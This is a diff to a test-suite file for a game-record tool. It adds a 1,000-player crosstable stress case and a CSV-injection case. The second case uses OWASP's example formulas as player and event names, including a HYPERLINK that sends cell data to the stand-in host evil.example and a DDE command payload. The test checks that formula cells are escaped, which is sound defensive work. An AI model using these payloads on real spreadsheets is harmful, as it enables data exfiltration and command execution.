@@ -46,6 +46,7 @@ SIZES = {
     "json_depth": 100_000,  # nested arrays in JSON
     "colors_json_depth": 100_000,  # nested arrays in a JSON object given inline to --colors
     "large_zip_members": 24,  # members of 8 MB of comments each in a zip (190 MB unpacked)
+    "ring_players": 1_000,  # players of one event who each met two (a full crosstable: a million cells)
 }
 
 SECONDS = 10.0  # every command on every case ends within this
@@ -1006,6 +1007,38 @@ def bidi_names() -> bytes:
     return "\n".join((game, game, trigeo)).encode()
 
 
+#: Names a spreadsheet would run as formulas (OWASP's examples), as
+#: players, an event and a site
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3",
+)
+
+
+def formula_names() -> bytes:
+    """Two games between players named as formulas, in an event so named."""
+    tag = [name.replace('"', '\\"') for name in FORMULAS]
+    return "".join(
+        f'[Game "Hexalit"]\n[Event "{tag[0]}"]\n[Site "{tag[3]}"]\n'
+        f'[North "{tag[i]}"]\n[South "{tag[i + 1]}"]\n[Result "1-0"]\n\n1. B4W3 1-0\n\n'
+        for i in (0, 2)
+    ).encode()
+
+
+def ring() -> bytes:
+    """An event of ``ring_players`` players in a ring, each playing the next
+    (P0-P1, P1-P2, ...): a crosstable with a row and a column each grows
+    with the square of the players, the games only with the players."""
+    players = SIZES["ring_players"]
+    return "".join(
+        f'[Game "Hexalit"]\n[Event "Big"]\n[North "P{i}"]\n[South "P{(i + 1) % players}"]\n'
+        '[Result "1-0"]\n\n1-0\n\n'
+        for i in range(players)
+    ).encode()
+
+
 def hostile_article() -> bytes:
     """Markup, an end of a style, bidirectional and control characters in
     the tags and comments that an article prints, and a diagram marker
@@ -1412,6 +1445,22 @@ CASES: list[Case] = [
             ("mixed-games-bidi", "a.hxl", bidi_names),
             ("not-utf8", "a.hxl", not_utf8),
         )
+    ),
+    Case(
+        "formula-names",
+        _file("a.hxl", formula_names),
+        ("find-csv", "find-sorted-csv", "crosstable-csv", "crosstable", "find", "crosstable-json"),
+        notes="a CSV cell that starts as a formula starts with ' instead",
+    ),
+    Case(
+        "crosstable-ring",
+        _file("ring.hxl", ring),
+        # render-png draws a picture of each of the 1,000 games (17 ms each):
+        # its time is that of the games, not of the crosstable
+        tuple(name for name in RECORD_COMMANDS if name != "render-png")
+        + ("crosstable-csv", "crosstable-json", "crosstable-html", "crosstable-pdf")
+        + ("crosstable-pdf-letter-landscape", "ratings-json"),
+        notes="the crosstable's size bound: a listing beyond MAX_TABLE_PLAYERS",
     ),
     Case("gzip-record", _file("a.hxl.gz", gzip_record), notes="compressed inputs"),
     *(
